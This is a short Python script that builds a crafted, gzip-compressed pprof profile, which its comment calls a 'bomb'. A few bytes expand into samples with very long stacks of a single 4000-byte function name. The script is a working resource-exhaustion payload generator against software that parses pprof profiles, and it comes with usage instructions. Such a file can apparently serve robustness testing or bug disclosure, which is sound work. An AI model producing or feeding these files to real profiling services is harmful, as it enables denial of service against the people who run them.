# SPDX-License-Identifier: ISC
# Writes a crafted pprof profile whose few bytes name long stacks: one
# 4000-byte function repeated N+i times in sample i.
# usage: python3 mkbomb.py NSAMPLES DEPTH > bomb.pb.gz
import gzip, sys
def varint(n):
    b=bytearray()
    while True:
        x=n&0x7f; n>>=7
        if n: b.append(x|0x80)
        else: b.append(x); return bytes(b)
def fld(num, wt, payload):
    key=varint(num<<3|wt)
    if wt==2: return key+varint(len(payload))+payload
    return key+varint(payload)
name=b"f"*4000
out=bytearray()
# sample_type: ValueType{type=2,unit=3}
out+=fld(1,2,fld(1,0,2)+fld(2,0,3))
nsamp=int(sys.argv[1]); depth=int(sys.argv[2])
for i in range(nsamp):
    ids=varint(1)*(depth+i)
    out+=fld(2,2,fld(1,2,ids)+fld(2,2,varint(1)))
out+=fld(4,2,fld(1,0,1)+fld(4,2,fld(1,0,1)))   # location id1 line func1
out+=fld(5,2,fld(1,0,1)+fld(2,0,1))            # function id1 name=1
for st in [b"", name, b"samples", b"count"]:
    out+=fld(6,2,st)
sys.stdout.buffer.write(gzip.compress(bytes(out),9))
